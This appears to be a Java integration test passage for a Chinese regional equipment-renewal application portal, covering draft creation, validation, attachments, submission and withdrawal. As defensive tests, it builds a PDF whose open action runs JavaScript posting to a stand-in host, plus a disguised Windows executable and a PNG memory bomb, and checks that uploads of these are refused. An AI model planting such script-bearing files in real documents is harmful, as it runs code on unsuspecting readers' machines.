package cn.liaocheng.renewal.application;

import static cn.liaocheng.renewal.application.ApplicationApi.errors;
import static cn.liaocheng.renewal.application.ApplicationApi.json;
import static cn.liaocheng.renewal.application.ApplicationFixtures.equipmentLine;
import static cn.liaocheng.renewal.application.ApplicationFixtures.pdf;
import static cn.liaocheng.renewal.application.ApplicationFixtures.pdfOfSize;
import static cn.liaocheng.renewal.application.ApplicationFixtures.project;
import static cn.liaocheng.renewal.application.ApplicationFixtures.sha256;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpResponse;
import java.sql.ResultSet;
import java.time.Year;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.Callable;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.ContentDisposition;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.transaction.PlatformTransactionManager;
import org.springframework.transaction.support.TransactionTemplate;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import cn.liaocheng.renewal.engine.OpenTasks;
import cn.liaocheng.renewal.enterprise.Enterprise;
import cn.liaocheng.renewal.enterprise.EnterpriseRegistry;
import cn.liaocheng.renewal.enterprise.EnterpriseStatus;
import cn.liaocheng.renewal.enterprise.FieldProblem;
import cn.liaocheng.renewal.enterprise.Registrations;
import cn.liaocheng.renewal.security.MemoryBombs;
import cn.liaocheng.renewal.support.DemoUsers;
import cn.liaocheng.renewal.support.WebClient;
import cn.liaocheng.renewal.support.WebIntegrationTest;

/**
 * An enterprise (ent-gx, 冠县) drafts, equips and submits a project over the REST API; the
 * engine and the tables are checked directly. The database is shared with other classes,
 * so every check is about this test's own rows.
 */
@WebIntegrationTest
class ApplicationApiTest {

	private static final String GUANXIAN_INDUSTRY = "county-371525-industry";

	private static final int TEN_MB = 10 * 1024 * 1024;

	@LocalServerPort
	int port;

	@Autowired
	RuntimeService runtime;

	@Autowired
	TaskService tasks;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	OpenTasks openTasks;

	@Autowired
	PlatformTransactionManager transactions;

	@Autowired
	EnterpriseRegistry registry;

	@Autowired
	JdbcTemplate jdbcTemplate;

	@Value("${renewal.applications.drafts-at-most}")
	int draftsAtMost;

	ApplicationApi enterprise;

	@BeforeEach
	void connect() {
		enterprise = ApplicationApi.as(port, DemoUsers.ENTERPRISE);
	}

	/**
	 * A misspelt field is refused by name, not dropped: a draft changed with
	 * {@code equipments} instead of {@code equipment} would otherwise lose every
	 * equipment line.
	 */
	@Test
	void refusesAFieldTheDossierDoesNotHaveByNameAndKeepsTheDraft() {
		long id = enterprise.createDraft("PROJECT", project(3));
		String before = json(enterprise.detail(id)).at("/dossier").toString();

		ObjectNode misspelt = project(3);
		misspelt.set("equipments", misspelt.remove("equipment"));
		HttpResponse<String> answer = enterprise.update(id, misspelt);
		assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
		assertThat(json(answer).at("/errors/0/field").asText()).isEqualTo("equipments");
		assertThat(json(answer).at("/detail").asText()).contains("不认识的字段：equipments");

		ObjectNode inLine = project(3);
		((ObjectNode) inLine.get("equipment").get(1)).put("unitPrise", "185000");
		HttpResponse<String> line = enterprise.update(id, inLine);
		assertThat(line.statusCode()).as(line.body()).isEqualTo(400);
		assertThat(json(line).at("/errors/0/field").asText()).isEqualTo("equipment[1].unitPrise");

		HttpResponse<String> created = enterprise.create("PROJECT", misspelt, UUID.randomUUID().toString());
		assertThat(created.statusCode()).as(created.body()).isEqualTo(400);
		assertThat(json(enterprise.detail(id)).at("/dossier").toString()).isEqualTo(before);
	}

	@Test
	void createsAProjectDraftOnceForRepeatedRequestsWithTheSameIdempotencyKey() {
		String key = UUID.randomUUID().toString();
		HttpResponse<String> first = enterprise.create("PROJECT", project(3), key);
		assertThat(first.statusCode()).as(first.body()).isEqualTo(201);
		JsonNode draft = json(first);
		long id = draft.at("/summary/id").asLong();
		assertThat(first.headers().firstValue("Location"))
			.hasValueSatisfying(l -> assertThat(l).endsWith("/api/applications/" + id));
		assertThat(draft.at("/summary/status").asText()).isEqualTo("DRAFT");
		assertThat(draft.at("/summary/referenceNo").isMissingNode()).isTrue();
		assertThat(draft.at("/dossier/equipment")).hasSize(3);
		assertThat(first.body()).contains("\"totalInvestment\":2210000.00", "\"unitPrice\":185000.00");

		HttpResponse<String> again = enterprise.create("PROJECT", project(3), key);
		assertThat(again.statusCode()).as(again.body()).isEqualTo(201);
		assertThat(json(again).at("/summary/id").asLong()).isEqualTo(id);
		assertThat(rowsCreatedWith(key)).isEqualTo(1);
	}

	@Test
	void refusesAnInvalidDossierNamingEachFieldInChineseAndStoresNothing() {
		String key = UUID.randomUUID().toString();
		ObjectNode dossier = project(2).put("policyTask", "16").put("totalInvestment", "12.345");
		equipmentLine(dossier, 0).put("quantity", "0");
		equipmentLine(dossier, 1).remove("model");

		HttpResponse<String> refused = enterprise.create("PROJECT", dossier, key);

		assertThat(refused.statusCode()).as(refused.body()).isEqualTo(400);
		assertThat(refused.headers().firstValue("Content-Type"))
			.hasValueSatisfying(t -> assertThat(t).startsWith("application/problem+json"));
		assertThat(json(refused).get("title").asText()).isEqualTo("申报材料未通过校验");
		assertThat(errors(refused)).containsExactlyInAnyOrder(new FieldProblem("policyTask", "重点任务应在 1 到 15 之间"),
				new FieldProblem("totalInvestment", "总投资以元为单位，最多保留两位小数"),
				new FieldProblem("equipment[0].quantity", "数量应在 1 到 100000 之间"),
				new FieldProblem("equipment[1].model", "请填写规格型号"));
		assertThat(rowsCreatedWith(key)).isZero();
	}

	@Test
	void refusesABodyThatIsNotJsonAndStoresNothing() {
		String key = UUID.randomUUID().toString();
		HttpResponse<String> refused = enterprise.createRaw("PROJECT", "{\"projectName\": \"未闭合", "Idempotency-Key",
				key);
		assertThat(refused.statusCode()).as(refused.body()).isEqualTo(400);
		assertThat(refused.headers().firstValue("Content-Type"))
			.hasValueSatisfying(t -> assertThat(t).startsWith("application/problem+json"));
		assertThat(rowsCreatedWith(key)).isZero();
	}

	@Test
	void refusesADraftWithoutAUsableIdempotencyKey() {
		String dossier = ApplicationFixtures.json(project(1));
		HttpResponse<String> missing = enterprise.createRaw("PROJECT", dossier);
		HttpResponse<String> tooShort = enterprise.createRaw("PROJECT", dossier, "Idempotency-Key", "abc");
		assertThat(missing.statusCode()).as(missing.body()).isEqualTo(400);
		assertThat(json(missing).get("detail").asText()).contains("Idempotency-Key");
		assertThat(tooShort.statusCode()).as(tooShort.body()).isEqualTo(400);
		assertThat(errors(tooShort)).containsExactly(new FieldProblem("creationKey", "请求缺少有效的防重复提交标识，请刷新页面后重试"));
		assertThat(rowsCreatedWith("abc")).isZero();
	}

	@Test
	void refusesSubmissionWithoutTheRequiredAttachments() {
		long id = enterprise.createDraft("PROJECT", project(2));

		HttpResponse<String> refused = enterprise.submit(id);

		assertThat(refused.statusCode()).as(refused.body()).isEqualTo(400);
		assertThat(errors(refused)).containsExactlyInAnyOrder(new FieldProblem("attachments", "请上传营业执照"),
				new FieldProblem("attachments", "请上传项目实施方案或可行性研究报告"));
		JsonNode detail = json(enterprise.detail(id));
		assertThat(detail.at("/summary/status").asText()).isEqualTo("DRAFT");
		assertThat(detail.at("/summary/referenceNo").isMissingNode()).isTrue();
		assertThat(processInstancesOf(id)).isZero();
	}

	@Test
	void uploadsAttachmentsAndAnswersWithTheSha256OfTheBytesSent() {
		long id = enterprise.createDraft("PROJECT", project(1));
		byte[] licence = pdf("营业执照 " + UUID.randomUUID());

		HttpResponse<String> uploaded = enterprise.upload(id, "BUSINESS_LICENCE", "营业执照.pdf", licence);

		assertThat(uploaded.statusCode()).as(uploaded.body()).isEqualTo(201);
		JsonNode attachment = json(uploaded);
		assertThat(attachment.get("sha256").asText()).isEqualTo(sha256(licence));
		assertThat(attachment.get("size").asLong()).isEqualTo(licence.length);
		assertThat(attachment.get("mediaType").asText()).isEqualTo("application/pdf");
		assertThat(attachment.get("category").asText()).isEqualTo("BUSINESS_LICENCE");
		assertThat(attachment.get("fileName").asText()).isEqualTo("营业执照.pdf");
		byte[] plan = pdf("项目实施方案 " + UUID.randomUUID());
		HttpResponse<String> planUploaded = enterprise.upload(id, "PROJECT_PLAN", "项目实施方案.pdf", plan);
		assertThat(planUploaded.statusCode()).as(planUploaded.body()).isEqualTo(201);
		assertThat(json(planUploaded).get("sha256").asText()).isEqualTo(sha256(plan));
		assertThat(json(enterprise.detail(id)).get("missingForSubmission")).isEmpty();

		HttpResponse<byte[]> download = enterprise.download(id, attachment.get("id").asLong());
		assertThat(download.statusCode()).isEqualTo(200);
		assertThat(download.body()).isEqualTo(licence);
		assertThat(download.headers().firstValue("X-Content-SHA256")).hasValue(sha256(licence));
		assertThat(download.headers().firstValue("Content-Type")).hasValue("application/pdf");
	}

	@Test
	void recognisesPngAndJpegByTheirContentWhateverTheirName() {
		long id = enterprise.createDraft("PROJECT", project(1));
		HttpResponse<String> png = enterprise.upload(id, "PROJECT_PLAN", "方案截图.pdf", ApplicationFixtures.png());
		HttpResponse<String> jpeg = enterprise.upload(id, "OTHER", "现场照片.jpg", ApplicationFixtures.jpeg());
		assertThat(png.statusCode()).as(png.body()).isEqualTo(201);
		assertThat(json(png).get("mediaType").asText()).isEqualTo("image/png");
		assertThat(jpeg.statusCode()).as(jpeg.body()).isEqualTo(201);
		assertThat(json(jpeg).get("mediaType").asText()).isEqualTo("image/jpeg");
	}

	/**
	 * An upload is accepted by its content, so a PDF may be called 营业执照.hta: the
	 * reviewer's download carries the extension of what it is, not one that would run.
	 */
	@Test
	void aDownloadIsNamedWithTheExtensionOfItsContentNotOfTheUploadedName() {
		long id = enterprise.createDraft("PROJECT", project(1));
		Map<String, String> saved = new LinkedHashMap<>();
		saved.put("营业执照.hta", "营业执照.hta.pdf");
		saved.put("说明.PDF", "说明.PDF");
		saved.put("方案截图.pdf", "方案截图.pdf.png");
		saved.put("现场照片.JPEG", "现场照片.JPEG");
		Map<String, byte[]> contents = Map.of("营业执照.hta", pdf("营业执照 " + UUID.randomUUID()), "说明.PDF",
				pdf("说明 " + UUID.randomUUID()), "方案截图.pdf", ApplicationFixtures.png(), "现场照片.JPEG",
				ApplicationFixtures.jpeg());
		saved.forEach((uploaded, downloaded) -> {
			HttpResponse<String> upload = enterprise.upload(id, "OTHER", uploaded, contents.get(uploaded));
			assertThat(upload.statusCode()).as(upload.body()).isEqualTo(201);
			HttpResponse<byte[]> download = enterprise.download(id, json(upload).get("id").asLong());
			assertThat(download.statusCode()).isEqualTo(200);
			String disposition = download.headers().firstValue("Content-Disposition").orElseThrow();
			assertThat(ContentDisposition.parse(disposition).getFilename()).as(disposition).isEqualTo(downloaded);
			assertThat(ContentDisposition.parse(disposition).isAttachment()).isTrue();
		});
	}

	/**
	 * Drafts asked for at once by an account not yet activated are counted one after
	 * another: five at most, not five beside each request's own count.
	 */
	@Test
	void draftsAskedForAtOnceStillStopAtFive() throws Exception {
		String userId = Registrations.freshUserId();
		assertThat(Registrations
			.submit(new WebClient(port), Registrations.validForm(Registrations.freshCreditCode("371525"), userId))
			.statusCode()).isEqualTo(302);
		String draft = ApplicationFixtures.json(project(1));
		java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(8);
		try {
			List<java.util.concurrent.Future<Integer>> sent = new java.util.ArrayList<>();
			for (int i = 0; i < 8; i++) {
				sent.add(pool.submit(() -> new WebClient(port).withBasic(userId, Registrations.PASSWORD)
					.postJson("/api/applications?kind=PROJECT", draft, "Idempotency-Key", UUID.randomUUID().toString())
					.statusCode()));
			}
			List<Integer> statuses = new java.util.ArrayList<>();
			for (java.util.concurrent.Future<Integer> f : sent) {
				statuses.add(f.get(60, java.util.concurrent.TimeUnit.SECONDS));
			}
			assertThat(statuses).filteredOn(s -> s == 201).hasSize(5);
			assertThat(statuses).filteredOn(s -> s != 201).containsOnly(409);
		}
		finally {
			pool.shutdownNow();
		}
	}

	/**
	 * An activated enterprise keeps {@code renewal.applications.drafts-at-most} drafts at
	 * most at once (20 as shipped; the shared test context's demo enterprises keep every
	 * class's drafts, so its profile sets more), whatever keys it sends: deleting one
	 * makes room again, and a key already used answers with its draft.
	 */
	@Test
	void anActivatedEnterpriseKeepsItsConfiguredNumberOfDraftsAtMost() {
		Enterprise active = Registrations.activeEnterprise(port, registry);
		assertThat(active.status()).isEqualTo(EnterpriseStatus.ACTIVE);
		WebClient client = new WebClient(port).withBasic(active.userId(), Registrations.PASSWORD);
		String draft = ApplicationFixtures.json(project(1));
		String firstKey = UUID.randomUUID().toString();
		HttpResponse<String> first = client.postJson("/api/applications?kind=PROJECT", draft, "Idempotency-Key",
				firstKey);
		assertThat(first.statusCode()).as(first.body()).isEqualTo(201);
		String firstPath = URI.create(first.headers().firstValue("Location").orElseThrow()).getPath();
		copyDraft(Long.parseLong(firstPath.substring(firstPath.lastIndexOf('/') + 1)), draftsAtMost - 2);
		HttpResponse<String> last = client.postJson("/api/applications?kind=PROJECT", draft, "Idempotency-Key",
				UUID.randomUUID().toString());
		assertThat(last.statusCode()).as("the last one allowed").isEqualTo(201);

		HttpResponse<String> more = client.postJson("/api/applications?kind=PROJECT", draft, "Idempotency-Key",
				UUID.randomUUID().toString());

		assertThat(more.statusCode()).as(more.body()).isEqualTo(409);
		assertThat(more.body()).contains("最多同时保存 " + draftsAtMost + " 份未提交的申报草稿", "请先提交或删除不需要的草稿");
		assertThat(drafts(active)).isEqualTo(draftsAtMost);
		assertThat(client.postJson("/api/applications?kind=PROJECT", draft, "Idempotency-Key", firstKey).statusCode())
			.as("the first request again, answered as before")
			.isIn(200, 201);
		assertThat(client.send("DELETE", firstPath, null).statusCode()).isEqualTo(204);
		assertThat(client
			.postJson("/api/applications?kind=PROJECT", draft, "Idempotency-Key", UUID.randomUUID().toString())
			.statusCode()).as("room again after a draft is deleted").isEqualTo(201);
		assertThat(drafts(active)).isEqualTo(draftsAtMost);
	}

	/**
	 * Pretends the enterprise saved {@code copies} more drafts: copies of one of its
	 * drafts, each with a creation key of its own.
	 */
	private void copyDraft(long draftId, int copies) {
		List<String> columns = jdbc.sql("SELECT * FROM application WHERE id = ?")
			.param(draftId)
			.query((ResultSet r) -> {
				List<String> names = new ArrayList<>();
				for (int c = 1; c <= r.getMetaData().getColumnCount(); c++) {
					names.add(r.getMetaData().getColumnLabel(c).toLowerCase(Locale.ROOT));
				}
				return names;
			});
		columns.remove("id");
		String copied = String.join(", ", columns);
		String chosen = String.join(", ", columns.stream().map(c -> c.equals("creation_key") ? "?" : c).toList());
		List<Object[]> keys = new ArrayList<>();
		for (int i = 0; i < copies; i++) {
			keys.add(new Object[] { "copy-" + UUID.randomUUID(), draftId });
		}
		int[] made = jdbcTemplate.batchUpdate(
				"INSERT INTO application (" + copied + ") SELECT " + chosen + " FROM application WHERE id = ?", keys);
		assertThat(made).hasSize(copies);
	}

	private int drafts(Enterprise enterprise) {
		return jdbc.sql("SELECT COUNT(*) FROM application WHERE enterprise_id = ? AND status = 'DRAFT'")
			.param(enterprise.id())
			.query(Integer.class)
			.single();
	}

	/**
	 * Anyone may register and log in; until the county activates the account it keeps
	 * five drafts at most, whatever keys it sends.
	 */
	@Test
	void anAccountNotYetActivatedKeepsFiveDraftsAtMost() {
		String userId = Registrations.freshUserId();
		assertThat(Registrations
			.submit(new WebClient(port), Registrations.validForm(Registrations.freshCreditCode("371525"), userId))
			.statusCode()).isEqualTo(302);
		WebClient pending = new WebClient(port).withBasic(userId, Registrations.PASSWORD);
		String draft = ApplicationFixtures.json(project(1));
		String firstKey = UUID.randomUUID().toString();
		for (int i = 0; i < 5; i++) {
			HttpResponse<String> created = pending.postJson("/api/applications?kind=PROJECT", draft, "Idempotency-Key",
					i == 0 ? firstKey : UUID.randomUUID().toString());
			assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
		}

		HttpResponse<String> sixth = pending.postJson("/api/applications?kind=PROJECT", draft, "Idempotency-Key",
				UUID.randomUUID().toString());

		assertThat(sixth.statusCode()).as(sixth.body()).isEqualTo(409);
		assertThat(sixth.body()).contains("账户激活前最多保存 5 份申报草稿");
		assertThat(pending.postJson("/api/applications?kind=PROJECT", draft, "Idempotency-Key", firstKey).statusCode())
			.as("the first request again, answered as before")
			.isIn(200, 201);
		// In the portal, the form comes back with what was typed and the reason.
		WebClient portal = new WebClient(port);
		portal.login(userId, Registrations.PASSWORD);
		String form = portal.get("/enterprise/applications/new?kind=PROJECT").body();
		HttpResponse<String> typed = portal.postForm("/enterprise/applications?kind=PROJECT",
				"_csrf=" + WebClient.csrfTokenOf(form) + "&creationKey=" + UUID.randomUUID() + "&projectName="
						+ java.net.URLEncoder.encode("第六个项目的名称", java.nio.charset.StandardCharsets.UTF_8));
		assertThat(typed.statusCode()).isEqualTo(200);
		assertThat(typed.body()).contains("账户激活前最多保存 5 份申报草稿", "尚未保存", "第六个项目的名称");
		assertThat(enterprise.createDraft("PROJECT", project(1))).as("an activated account is not limited")
			.isPositive();
	}

	@Test
	void submittingStartsTheCountyReviewWithAReferenceNumber() {
		long id = enterprise.submittableProject();

		HttpResponse<String> submitted = enterprise.submit(id);

		assertThat(submitted.statusCode()).as(submitted.body()).isEqualTo(200);
		JsonNode summary = json(submitted);
		assertThat(summary.get("status").asText()).isEqualTo("COUNTY_REVIEW");
		String referenceNo = summary.get("referenceNo").asText();
		assertThat(referenceNo).matches("XM-\\d{4}-\\d{6}")
			.startsWith("XM-" + Year.now(ZoneId.of("Asia/Shanghai")) + "-");
		assertThat(processInstancesOf(id)).isEqualTo(1);
		Task review = tasks.createTaskQuery().processInstanceBusinessKey(String.valueOf(id)).singleResult();
		assertThat(review.getTaskDefinitionKey()).isEqualTo("Task_CountyFormalReview");
		assertThat(tasks.createTaskQuery().taskId(review.getId()).taskCandidateGroup(GUANXIAN_INDUSTRY).count())
			.isEqualTo(1);
		assertThat(tasks.createTaskQuery().taskId(review.getId()).taskCandidateUser(DemoUsers.COUNTY_REVIEWER).count())
			.isEqualTo(1);
		assertThat(tasks.createTaskQuery().taskId(review.getId()).taskCandidateGroup("county-371581-industry").count())
			.isZero();
	}

	/**
	 * A client that shows an older wording of the declaration (cached, or written against
	 * it) cannot confirm it for the one in force: the record keeps the version confirmed.
	 */
	@Test
	void aConfirmationOfAnotherWordingOfTheDeclarationIsRefused() {
		long id = enterprise.submittableProject();

		HttpResponse<String> stale = enterprise.submit(id, "2025-0");

		assertThat(stale.statusCode()).as(stale.body()).isEqualTo(400);
		assertThat(stale.body()).contains("诚信承诺的文本已更新（现行版本 " + IntegrityDeclaration.VERSION + "）");
		assertThat(processInstancesOf(id)).isZero();
		HttpResponse<String> current = enterprise.submit(id, IntegrityDeclaration.VERSION);
		assertThat(current.statusCode()).as(current.body()).isEqualTo(200);
		assertThat(json(current).get("status").asText()).isEqualTo("COUNTY_REVIEW");
	}

	/**
	 * The dossier was saved again (another tab, a colleague) after the confirmer reviewed
	 * it: what they did not see is not submitted.
	 */
	@Test
	void aDossierSavedAfterItWasReviewedIsNotSubmittedUnseen() {
		long id = enterprise.submittableProject();
		int reviewed = json(enterprise.detail(id)).get("version").asInt();
		ObjectNode changed = project(2).put("projectName", "另一窗口改过的项目名称");
		assertThat(enterprise.update(id, changed).statusCode()).isEqualTo(200);

		HttpResponse<String> stale = enterprise.submitReviewed(id, reviewed);

		assertThat(stale.statusCode()).as(stale.body()).isEqualTo(409);
		assertThat(stale.body()).contains("申报材料已在其他窗口或由其他人修改，请刷新页面核对后再提交");
		assertThat(processInstancesOf(id)).isZero();
		int current = json(enterprise.detail(id)).get("version").asInt();
		assertThat(enterprise.submitReviewed(id, current).statusCode()).isEqualTo(200);
	}

	@Test
	void submittingAgainChangesNothing() {
		long id = enterprise.submittableProject();
		String first = json(enterprise.submit(id)).get("referenceNo").asText();

		HttpResponse<String> again = enterprise.submit(id);

		assertThat(again.statusCode()).as(again.body()).isEqualTo(200);
		assertThat(json(again).get("referenceNo").asText()).isEqualTo(first);
		assertThat(json(again).get("status").asText()).isEqualTo("COUNTY_REVIEW");
		assertThat(processInstancesOf(id)).isEqualTo(1);
		assertThat(submissionEventsOf(id)).isEqualTo(1);
	}

	@Test
	void twoConcurrentSubmissionsStartOneProcessWithOneReferenceNumber() throws Exception {
		long id = enterprise.submittableProject();
		CountDownLatch start = new CountDownLatch(1);
		Callable<HttpResponse<String>> submit = () -> {
			ApplicationApi client = ApplicationApi.as(port, DemoUsers.ENTERPRISE);
			start.await();
			return client.submit(id);
		};
		ExecutorService pool = Executors.newFixedThreadPool(2);
		try {
			List<Future<HttpResponse<String>>> answers = List.of(pool.submit(submit), pool.submit(submit));
			start.countDown();
			HttpResponse<String> a = answers.get(0).get(30, TimeUnit.SECONDS);
			HttpResponse<String> b = answers.get(1).get(30, TimeUnit.SECONDS);
			assertThat(a.statusCode()).as(a.body()).isEqualTo(200);
			assertThat(b.statusCode()).as(b.body()).isEqualTo(200);
			String referenceNo = json(a).get("referenceNo").asText();
			assertThat(referenceNo).matches("XM-\\d{4}-\\d{6}");
			assertThat(json(b).get("referenceNo").asText()).isEqualTo(referenceNo);
		}
		finally {
			pool.shutdownNow();
		}
		assertThat(processInstancesOf(id)).isEqualTo(1);
		assertThat(submissionEventsOf(id)).isEqualTo(1);
	}

	@Test
	void aSubmittedDossierCannotBeEditedOrGivenMoreAttachments() {
		long id = enterprise.submittableProject();
		enterprise.submit(id);

		HttpResponse<String> edit = enterprise.update(id, project(1).put("projectName", "改名"));
		HttpResponse<String> upload = enterprise.upload(id, "OTHER", "补充.pdf", pdf("late"));

		assertThat(edit.statusCode()).as(edit.body()).isEqualTo(409);
		assertThat(json(edit).get("detail").asText()).isEqualTo("申报当前状态为“县级初审中”，不能修改。");
		assertThat(upload.statusCode()).as(upload.body()).isEqualTo(409);
		JsonNode detail = json(enterprise.detail(id));
		assertThat(detail.at("/dossier/projectName").asText()).isEqualTo("冠县轴承生产线智能化改造项目");
		assertThat(detail.get("attachments")).hasSize(2);
	}

	/**
	 * A draft not submitted while its kind's window is open is on the enterprise's 需要您处理
	 * list, with the window's last day; once submitted it is not.
	 */
	@Test
	void aDraftIsListedToSubmitUntilTheWindowClosesAndNotOnceSubmitted() {
		long id = enterprise.submittableProject();
		JsonNode draft = null;
		for (JsonNode item : json(enterprise.actions())) {
			if (item.get("applicationId").asLong() == id) {
				draft = item;
			}
		}
		assertThat(draft).as("the draft in the list").isNotNull();
		assertThat(draft.get("step").asText()).isEqualTo("待提交");
		assertThat(draft.get("todo").asText()).contains("草稿尚未提交", "项目入库申请的申报期至", "截止后不能提交");
		assertThat(draft.get("lastDay").asText()).matches("\\d{4}-\\d{2}-\\d{2}");
		assertThat(draft.get("link").asText()).isEqualTo("/enterprise/applications/" + id);

		assertThat(enterprise.submit(id).statusCode()).isEqualTo(200);
		assertThat(enterprise.actions().body()).doesNotContain("\"applicationId\":" + id + ",");
		enterprise.withdraw(id);
	}

	@Test
	void withdrawingBeforeAnyReviewerClaimedEndsTheProcess() {
		long id = enterprise.submittableProject();
		enterprise.submit(id);

		HttpResponse<String> withdrawn = enterprise.withdraw(id);

		assertThat(withdrawn.statusCode()).as(withdrawn.body()).isEqualTo(200);
		assertThat(json(withdrawn).at("/summary/status").asText()).isEqualTo("WITHDRAWN");
		assertThat(processInstancesOf(id)).isZero();
		assertThat(tasks.createTaskQuery().processInstanceBusinessKey(String.valueOf(id)).count()).isZero();
	}

	@Test
	void withdrawingAfterAReviewerClaimedTheTaskIsRefused() {
		long id = enterprise.submittableProject();
		enterprise.submit(id);
		Task review = tasks.createTaskQuery().processInstanceBusinessKey(String.valueOf(id)).singleResult();
		tasks.claim(review.getId(), DemoUsers.COUNTY_REVIEWER);

		HttpResponse<String> refused = enterprise.withdraw(id);

		assertThat(refused.statusCode()).as(refused.body()).isEqualTo(409);
		assertThat(json(refused).get("detail").asText()).isEqualTo("审核已经开始或申报不在待审状态，不能撤回；只有审核开始前或退回补正期间可以撤回。");
		assertThat(json(enterprise.detail(id)).at("/summary/status").asText()).isEqualTo("COUNTY_REVIEW");
		assertThat(processInstancesOf(id)).isEqualTo(1);
	}

	/**
	 * A withdrawal takes the case's open tasks before it checks that no reviewer has
	 * begun: a reviewer at the task (holding its row, as a claim does) makes it wait, and
	 * the claim then refuses it as review having begun. Before, it checked first, so a
	 * claim committed between its check and its cancellation was cancelled with the case.
	 */
	@Test
	void aWithdrawalWaitsForAReviewerAtTheTaskAndIsRefusedOnceTheyClaimIt() throws Exception {
		long id = enterprise.submittableProject();
		enterprise.submit(id);
		Task review = tasks.createTaskQuery().processInstanceBusinessKey(String.valueOf(id)).singleResult();
		CountDownLatch atTheTask = new CountDownLatch(1);
		CountDownLatch claim = new CountDownLatch(1);
		ExecutorService pool = Executors.newFixedThreadPool(2);
		try {
			Future<?> reviewer = pool
				.submit(() -> new TransactionTemplate(transactions).executeWithoutResult(status -> {
					openTasks.hold(review.getId());
					atTheTask.countDown();
					try {
						assertThat(claim.await(60, TimeUnit.SECONDS)).isTrue();
					}
					catch (InterruptedException e) {
						Thread.currentThread().interrupt();
					}
					tasks.claim(review.getId(), DemoUsers.COUNTY_REVIEWER);
				}));
			assertThat(atTheTask.await(60, TimeUnit.SECONDS)).isTrue();
			Future<HttpResponse<String>> withdrawal = pool.submit(() -> enterprise.withdraw(id));
			Thread.sleep(1000);
			claim.countDown();
			reviewer.get(60, TimeUnit.SECONDS);

			HttpResponse<String> refused = withdrawal.get(60, TimeUnit.SECONDS);
			assertThat(refused.statusCode()).as(refused.body()).isEqualTo(409);
			assertThat(json(refused).get("detail").asText()).isEqualTo("审核已经开始或申报不在待审状态，不能撤回；只有审核开始前或退回补正期间可以撤回。");
		}
		finally {
			claim.countDown();
			pool.shutdownNow();
		}
		assertThat(tasks.createTaskQuery().taskId(review.getId()).singleResult().getAssignee())
			.isEqualTo(DemoUsers.COUNTY_REVIEWER);
		assertThat(json(enterprise.detail(id)).at("/summary/status").asText()).isEqualTo("COUNTY_REVIEW");
	}

	@Test
	void refusesAWindowsProgramNamedLikeAPdf() {
		long id = enterprise.createDraft("PROJECT", project(1));
		assertUploadRefused(id, "licence.pdf", ApplicationFixtures.windowsExecutable(), 400,
				"“licence.pdf”不是 PDF、JPEG 或 PNG 文件（按文件内容识别），请转换后上传");
	}

	/**
	 * 300 kB of PNG whose pixels decode to 317 MB (16 bits a sample) could never be
	 * previewed; a colour scan of an A4 page at 600 dpi (105 MB decoded) can, subsampled.
	 */
	@Test
	void refusesAnImageThatNoPreviewCouldDecodeButNotALargeScan() {
		long id = enterprise.createDraft("PROJECT", project(1));
		assertUploadRefused(id, "扫描件.png", MemoryBombs.png16(6000, 6600), 400,
				"“扫描件.png”图片过大（6000×6600 像素，每色 16 位，解码后约 302 MB，超过 256 MB），审核时无法预览，请降低分辨率或另存为普通的 8 位 JPEG 后上传");

		HttpResponse<String> scan = enterprise.upload(id, "BUSINESS_LICENCE", "营业执照.png",
				MemoryBombs.png(5000, 7000, 8, 2));
		assertThat(scan.statusCode()).as(scan.body()).isEqualTo(201);
	}

	/**
	 * A PDF that would run a script on the reviewer's computer when opened is refused,
	 * nothing stored; the same file without the script is taken.
	 */
	@Test
	void refusesAPdfThatRunsAScriptWhenOpened() throws IOException {
		long id = enterprise.createDraft("PROJECT", project(1));
		assertUploadRefused(id, "营业执照.pdf", pdfWithScript(true), 400,
				"“营业执照.pdf”含有脚本（JavaScript），审核人员下载打开时可能自动运行，不能作为申报材料；请用“打印为 PDF”另存，或上传扫描件");

		HttpResponse<String> plain = enterprise.upload(id, "BUSINESS_LICENCE", "营业执照.pdf", pdfWithScript(false));
		assertThat(plain.statusCode()).as(plain.body()).isEqualTo(201);
	}

	private static byte[] pdfWithScript(boolean script) throws IOException {
		try (PDDocument document = new PDDocument()) {
			document.addPage(new PDPage());
			if (script) {
				document.getDocumentCatalog()
					.setOpenAction(new PDActionJavaScript("this.submitForm('http://example.invalid/');"));
			}
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			document.save(out);
			return out.toByteArray();
		}
	}

	@Test
	void refusesAnEmptyFile() {
		long id = enterprise.createDraft("PROJECT", project(1));
		assertUploadRefused(id, "营业执照.pdf", new byte[0], 400, "文件“营业执照.pdf”是空文件，请重新选择");
	}

	@Test
	void refusesAFileOfMoreThanTenMegabytes() {
		long id = enterprise.createDraft("PROJECT", project(1));
		long attachments = attachmentRowsOf(id);
		long files = storedFiles();

		HttpResponse<String> refused = enterprise.upload(id, "PROJECT_PLAN", "方案.pdf", pdfOfSize(TEN_MB + 1));

		assertThat(refused.statusCode()).as(refused.body()).isIn(400, 413);
		assertThat(errors(refused)).singleElement().satisfies(p -> {
			assertThat(p.field()).isEqualTo("file");
			assertThat(p.message()).startsWith("单个附件不能超过 10 MB");
		});
		assertThat(attachmentRowsOf(id)).isEqualTo(attachments);
		assertThat(storedFiles()).isEqualTo(files);
	}

